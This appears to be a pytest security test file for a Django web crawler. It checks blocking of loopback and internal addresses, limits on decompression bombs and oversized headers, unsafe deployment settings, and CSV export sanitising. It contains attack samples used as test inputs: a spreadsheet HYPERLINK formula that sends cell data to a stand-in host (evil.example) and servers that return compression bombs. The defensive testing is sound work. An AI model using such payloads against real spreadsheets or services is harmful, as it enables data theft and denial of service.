"""The platform cannot be turned against its own network, and refuses unsafe settings.

Through real workers: a seed on loopback without the allow setting fails as
``blocked_address``; with a narrower allowed network (127.0.0.1/32) a redirect, a robots.txt
and a sitemap that lead to 127.0.0.2, and a name that resolves there, are refused before any
connection is made (a server listening on 127.0.0.2 counts connections: none may arrive). No
test sends traffic outside the loopback range.
"""

from __future__ import annotations

import csv
import gzip
import re
import socket
import subprocess
import sys
import threading
import time
import tracemalloc
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import yaml
from django.conf import settings
from django.utils import timezone

from crawlplatform import security
from tasks.fetch import outcomes
from tasks.fetch.fetching import FetchLimits, fetch
from tasks.frontier import jobs
from tasks.rules import guard
from tests.budgets import FAST
from tests.conftest import crawl_to_end
from tests.hostile import HostileSite
from web import export
from web.models import FrontierURL, Page

ROOT = settings.BASE_DIR


class Listener:
    """A TCP server on 127.0.0.2 that only counts the connections it is offered."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.2", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()

    def url(self, path: str) -> str:
        return f"http://127.0.0.2:{self.port}{path}"

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def elsewhere():
    listener = Listener()
    yield listener
    listener.close()


def narrow(allow: str) -> dict[str, str]:
    return {**FAST, "CRAWL_ALLOWED_NETWORKS": allow}


@pytest.mark.django_db(transaction=True)
def test_a_seed_on_loopback_is_refused_without_the_allow_setting(redis, tmp_path):
    with HostileSite() as site:
        job, _ = crawl_to_end(site.url("/"), tmp_path, narrow(""), max_depth=0)
        assert site.requests == {}  # not even robots.txt
    row = FrontierURL.objects.get(job=job)
    assert (row.state, row.error_reason) == ("failed", "blocked_address")
    assert "is a loopback address" in row.error_message
    assert "CRAWL_ALLOWED_NETWORKS=127.0.0.0/8" in row.error_message


@pytest.mark.django_db(transaction=True)
def test_redirects_robots_and_sitemaps_to_a_refused_address_make_no_connection(
    redis, tmp_path, elsewhere
):
    robots = f"User-agent: *\nAllow: /\nSitemap: {elsewhere.url('/sitemap.xml')}\n"
    overrides = {
        "/": lambda n: (200, {"Content-Type": "text/html"},
                        b'<a href="/away">away</a> <a href="/fine">fine</a>'),
        "/away": lambda n: (302, {"Location": elsewhere.url("/inside")}, b""),
        "/robots.txt": lambda n: (200, {"Content-Type": "text/plain"}, robots.encode()),
    }  # fmt: skip
    with HostileSite(overrides=overrides) as site:
        job, _ = crawl_to_end(
            site.url("/"), tmp_path, narrow("127.0.0.1/32"), max_depth=2, use_sitemaps=True,
            allowed_domains=["127.0.0.1", "127.0.0.2"],
        )  # fmt: skip
        assert site.hits("/fine") == 1
    rows = {r.url: r for r in FrontierURL.objects.filter(job=job)}
    away = rows[site.url("/away")]
    assert (away.state, away.error_reason) == ("failed", "blocked_address")
    sitemap = rows[elsewhere.url("/sitemap.xml")]
    assert (sitemap.state, sitemap.error_reason) == ("failed", "blocked_address")
    assert elsewhere.accepted == 0


@pytest.mark.django_db(transaction=True)
def test_a_name_that_resolves_to_a_refused_address_is_refused(redis, tmp_path, elsewhere):
    env = {**narrow("127.0.0.1/32"), "CRAWL_RESOLVE": "inside.example.test=127.0.0.2"}
    job, _ = crawl_to_end(f"http://inside.example.test:{elsewhere.port}/", tmp_path, env)
    row = FrontierURL.objects.get(job=job)
    assert (row.state, row.error_reason) == ("failed", "blocked_address")
    assert "127.0.0.2 (inside.example.test)" in row.error_message
    assert elsewhere.accepted == 0


@pytest.mark.django_db(transaction=True)
def test_a_robots_txt_redirected_to_a_refused_address_is_unfollowable(redis, tmp_path, elsewhere):
    overrides = {"/robots.txt": lambda n: (302, {"Location": elsewhere.url("/robots.txt")}, b"")}
    with HostileSite(overrides=overrides) as site:
        job, _ = crawl_to_end(site.url("/q"), tmp_path, narrow("127.0.0.1/32"), max_depth=0)
        assert site.hits("/q") == 1  # robots.txt could not be followed: no restrictions
    assert FrontierURL.objects.get(job=job).state == "done"
    assert elsewhere.accepted == 0


class Bombs(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    ZEROS = b"\0" * (20 << 20)

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:
        encoders = {
            "/gzip": ("gzip", gzip.compress),
            "/deflate": ("deflate", zlib.compress),
            "/raw-deflate": ("deflate", lambda b: zlib.compress(b)[2:-4]),
            "/brotli": ("br", lambda b: b"not really brotli"),
            "/gzip-twice": ("gzip, gzip", lambda b: gzip.compress(gzip.compress(b))),
            "/utf8": ("UTF-8", lambda b: b"<p>plain</p>"),  # names servers send for none
            "/none": ("none", lambda b: b"<p>plain</p>"),
            "/identity-gzip": ("identity, gzip", lambda b: gzip.compress(b"<p>plain</p>")),
        }
        if self.path in encoders:
            coding, encode = encoders[self.path]
            body = encode(self.ZEROS)
            self.send_response(200)
            self.send_header("Content-Encoding", coding)
        elif self.path == "/many-headers":
            body = b"x"
            self.send_response(200)
            for i in range(150):
                self.send_header(f"X-H{i}", "v")
        elif self.path == "/long-header":
            body = b"x"
            self.send_response(200)
            self.send_header("X-Long", "v" * (70 << 10))
        else:  # /trickle: a byte every 0.2 s, never silent for the read timeout
            self.send_response(200)
            self.send_header("Content-Length", "1000")
            self.end_headers()
            try:
                for _ in range(1000):
                    self.wfile.write(b"x")
                    self.wfile.flush()
                    time.sleep(0.2)
            except OSError:
                pass
            return
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def bombs():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Bombs)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


LIMITS = FetchLimits(connect_timeout=2, read_timeout=1, deadline=3, max_bytes=1 << 20,
                     max_redirects=5)  # fmt: skip
ALLOW = guard.networks("127.0.0.0/8")


@pytest.mark.parametrize("path", ["/gzip", "/deflate", "/raw-deflate"])
def test_a_decompression_bomb_is_cut_at_the_cap_inside_the_decoder(bombs, path):
    tracemalloc.start()
    try:
        resp = fetch(bombs + path, user_agent="t", limits=LIMITS, allow=ALLOW)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert resp.truncated and len(resp.body) == 1 << 20 and set(resp.body) == {0}
    assert peak < 8 << 20  # 20 MiB inflated never sat in memory


@pytest.mark.parametrize(("path", "coding"), [("/brotli", "br"), ("/gzip-twice", "gzip, gzip")])
def test_an_encoding_that_was_not_asked_for_fails_readably(bombs, path, coding):
    with pytest.raises(outcomes.ProtocolError, match=f"unsupported Content-Encoding '{coding}'"):
        fetch(bombs + path, user_agent="t", limits=LIMITS, allow=ALLOW)


@pytest.mark.parametrize("path", ["/utf8", "/none", "/identity-gzip"])
def test_a_coding_name_no_compression_has_is_passed_over_as_browsers_and_scrapy_do(bombs, path):
    assert fetch(bombs + path, user_agent="t", limits=LIMITS, allow=ALLOW).body == b"<p>plain</p>"


@pytest.mark.parametrize("path", ["/many-headers", "/long-header"])
def test_oversized_headers_fail_with_their_reason(bombs, path):
    with pytest.raises(outcomes.HeadersTooLarge):
        fetch(bombs + path, user_agent="t", limits=LIMITS, allow=ALLOW)


def test_a_trickling_body_fails_at_the_deadline(bombs):
    started = time.monotonic()
    with pytest.raises(outcomes.DeadlineExceeded):
        fetch(bombs + "/trickle", user_agent="t", limits=LIMITS, allow=ALLOW)
    assert time.monotonic() - started < LIMITS.deadline + LIMITS.read_timeout + 0.5


@pytest.mark.parametrize(
    ("environ", "hosts", "refused"),
    [
        ({}, ["crawl.example.com"], "SECRET_KEY is not set"),
        ({"SECRET_KEY": "change-me"}, ["crawl.example.com"], "placeholder or too weak"),
        ({"SECRET_KEY": "x" * 60}, ["crawl.example.com"], "placeholder or too weak"),
        ({"SECRET_KEY": "k3y-" * 15}, ["*"], "ALLOWED_HOSTS=*"),
    ],
)
def test_unsafe_production_settings_are_named(environ, hosts, refused):
    assert any(refused in p for p in security.problems(environ, False, hosts))
    assert security.problems(environ, True, hosts) == []  # DEBUG: a developer's machine


def test_gunicorn_refuses_to_start_on_unsafe_settings_and_starts_on_safe_ones(tmp_path):
    base = {"PATH": "/usr/bin:/bin", "CRAWL_DATA_DIR": str(tmp_path), "DEBUG": "false",
            "GUNICORN_BIND": "127.0.0.1:0", "ALLOWED_HOSTS": "crawl.example.com"}  # fmt: skip
    gunicorn = [sys.executable, "-m", "gunicorn", "-c", "crawlplatform/gunicorn_config.py",
                "crawlplatform.wsgi"]  # fmt: skip
    out = subprocess.run(gunicorn, cwd=ROOT, env=base, capture_output=True, text=True, timeout=60)
    assert out.returncode != 0 and "SECRET_KEY is not set" in out.stderr
    safe = {**base, "SECRET_KEY": "n0t-a-placeholder-" * 4}
    proc = subprocess.Popen(gunicorn, cwd=ROOT, env=safe, stderr=subprocess.PIPE, text=True)
    try:
        line = ""
        deadline = time.monotonic() + 30
        while "Listening at" not in line and time.monotonic() < deadline:
            line = proc.stderr.readline()
        assert "Listening at" in line
    finally:
        proc.terminate()
        proc.wait(30)


@pytest.mark.django_db
def test_metrics_need_the_token_once_one_is_set(client, redis, monkeypatch):
    assert client.get("/metrics").status_code == 200  # no token set: loopback only
    assert client.get("/metrics", REMOTE_ADDR="10.1.2.3").status_code == 403
    # a reverse proxy on this machine: every request comes from loopback, relayed
    assert client.get("/metrics", HTTP_X_FORWARDED_FOR="203.0.113.9").status_code == 403
    assert client.get("/metrics", HTTP_FORWARDED="for=203.0.113.9").status_code == 403
    monkeypatch.setenv("METRICS_TOKEN", "m3trics")
    assert client.get("/metrics").status_code == 403
    assert client.get("/metrics", HTTP_AUTHORIZATION="Bearer nope").status_code == 403
    ok = client.get("/metrics", HTTP_AUTHORIZATION="Bearer m3trics")
    assert ok.status_code == 200 and b"crawlplatform_jobs" in ok.content
    # Prometheus scrapes a pod by its IP, a Host that ALLOWED_HOSTS refuses elsewhere
    by_ip = client.get("/metrics", HTTP_HOST="10.1.2.3:8000", HTTP_AUTHORIZATION="Bearer m3trics")
    assert by_ip.status_code == 200
    assert client.get("/metrics", HTTP_HOST="10.1.2.3:8000").status_code == 403


@pytest.mark.django_db
def test_readyz_says_which_check_failed_but_not_why(client, redis, monkeypatch):
    from web import health

    monkeypatch.setitem(health.READY, "redis", lambda: health._fail("password=hunter2 refused"))
    response = client.get("/readyz")
    assert response.status_code == 503
    assert response.json() == {"status": "fail", "checks": {"database": True, "redis": False,
                                                            "migrations": True}}  # fmt: skip
    assert b"hunter2" not in response.content


@pytest.mark.django_db
def test_csv_export_neutralises_formulas(tmp_path):
    job = jobs.create_job(["http://127.0.0.1:9/"])
    jobs.start(job)
    url = FrontierURL.objects.get(job=job)
    FrontierURL.objects.filter(pk=url.pk).update(state="done")
    Page.objects.create(
        job=job, url=url, final_url=url.url, status=200, size=1, elapsed_ms=1,
        fetched_at=timezone.now(), content_hash="0" * 64,
        title='=HYPERLINK("http://evil.example/?"&A1, "click")',
    )  # fmt: skip
    out = tmp_path / "out.csv"
    export.save(job, "csv", str(out))
    (row,) = csv.DictReader(out.open())
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1, "click")'
    assert export.neutralise("@SUM(1)") == "'@SUM(1)" and export.neutralise("fine") == "fine"


@pytest.mark.django_db
def test_admin_cannot_edit_url_states_or_add_pages(admin_client):
    job = jobs.create_job(["http://127.0.0.1:9/"])
    jobs.start(job)
    url = FrontierURL.objects.get(job=job)
    page = admin_client.get(f"/admin/web/frontierurl/{url.pk}/change/").content.decode()
    assert 'name="state"' not in page
    assert admin_client.get("/admin/web/page/add/").status_code == 403
    assert admin_client.get("/admin/web/frontierurl/add/").status_code == 403


def test_no_secret_is_in_the_deployment_files():
    text = (ROOT / "docker-compose.yml").read_text()
    compose = yaml.safe_load(text)
    flower = compose["services"]["flower"]["environment"]["FLOWER_BASIC_AUTH"]
    assert flower == "admin:${FLOWER_PASSWORD:?set FLOWER_PASSWORD in .env}"
    rabbitmq = compose["services"]["rabbitmq"]["environment"]["RABBITMQ_DEFAULT_PASS"]
    assert rabbitmq == "${RABBITMQ_PASSWORD:?set RABBITMQ_PASSWORD in .env}"  # never empty
    assert "--requirepass" in compose["services"]["redis"]["command"]
    assert compose["services"]["flower"]["ports"] == ["127.0.0.1:5555:5555"]
    assert "change-me" not in text and "latest" not in text
    for path in (ROOT / "k8s").rglob("*"):
        if path.is_file():
            assert "change-me" not in path.read_text(), path
    policy = (ROOT / "k8s" / "platform" / "networkpolicy.yaml").read_text()
    assert "5555" not in policy  # Flower: from inside the namespace only


def _interpolate(value: str) -> str:
    """A compose value with ``${VAR:-default}`` at its default and ``${VAR:?...}`` filled."""
    value = re.sub(r"\$\{(\w+):-([^}]*)\}", lambda m: m.group(2), value)
    return re.sub(r"\$\{(\w+):\?[^}]*\}", lambda m: f"{m.group(1).lower()}-" + "s3cret" * 10,
                  value)  # fmt: skip


def production_environments() -> dict[str, dict[str, str]]:
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    web = {k: _interpolate(str(v)) for k, v in compose["services"]["web"]["environment"].items()}
    config = yaml.safe_load((ROOT / "k8s" / "platform" / "config.yaml").read_text())["data"]
    example = (ROOT / "k8s" / "platform" / "secrets.env.example").read_text()
    secrets = {k: f"{k.lower()}-" + "s3cret" * 10 for k, _, _ in
               (ln.partition("=") for ln in example.splitlines() if "=" in ln)}  # fmt: skip
    return {"compose": web, "k8s": {**config, **secrets}}


@pytest.mark.parametrize("where", ["compose", "k8s"])
def test_check_deploy_is_clean_with_the_production_settings(where, tmp_path):
    env = {**production_environments()[where], "PATH": "/usr/bin:/bin",
           "CRAWL_DATA_DIR": str(tmp_path), "DATABASE_URL": f"sqlite:///{tmp_path}/db.sqlite3",
           "REDIS_URL": "redis://127.0.0.1:1/0"}  # fmt: skip
    out = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert out.returncode == 0, out.stdout + out.stderr
    assert security.problems(env, False, env["ALLOWED_HOSTS"].split(",")) == []


@pytest.mark.django_db
def test_the_admin_login_works_behind_a_tls_proxy(settings, django_user_model):
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.SESSION_COOKIE_SECURE = settings.CSRF_COOKIE_SECURE = True
    settings.SECURE_SSL_REDIRECT = True
    settings.ALLOWED_HOSTS = ["crawl.example.com"]
    settings.CSRF_TRUSTED_ORIGINS = ["https://crawl.example.com"]
    django_user_model.objects.create_superuser("ops", "ops@example.com", "a-long-passphrase")
    from django.test import Client

    proxied = {"HTTP_HOST": "crawl.example.com", "HTTP_X_FORWARDED_PROTO": "https"}
    browser = Client(enforce_csrf_checks=True)
    assert browser.get("/admin/login/", HTTP_HOST="crawl.example.com").status_code == 301
    form = browser.get("/admin/login/", **proxied)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form.content.decode())
    assert form.cookies["csrftoken"]["secure"]
    response = browser.post(
        "/admin/login/?next=/admin/",
        {"username": "ops", "password": "a-long-passphrase", "csrfmiddlewaretoken": token[1]},
        HTTP_ORIGIN="https://crawl.example.com", HTTP_REFERER="https://crawl.example.com/admin/",
        **proxied,
    )  # fmt: skip
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert response.cookies["sessionid"]["secure"]


@pytest.mark.django_db(transaction=True)
def test_a_job_whose_proxy_is_on_a_refused_address_fetches_and_stores_nothing(redis, tmp_path):
    from tests.antibot import ForwardProxy

    with HostileSite() as site, ForwardProxy("127.0.0.2", listen="127.0.0.3") as proxy:
        job, _ = crawl_to_end(site.url("/"), tmp_path, narrow("127.0.0.1/32"), max_depth=0,
                              proxies=[proxy.url()])  # fmt: skip
        assert proxy.requests == 0 and site.requests == {}  # robots.txt neither
    row = FrontierURL.objects.get(job=job)
    assert (row.state, row.error_reason) == ("failed", "blocked_address")
    assert f"proxy http://127.0.0.3:{proxy.port} refused" in row.error_message
    assert not Page.objects.filter(job=job).exists()
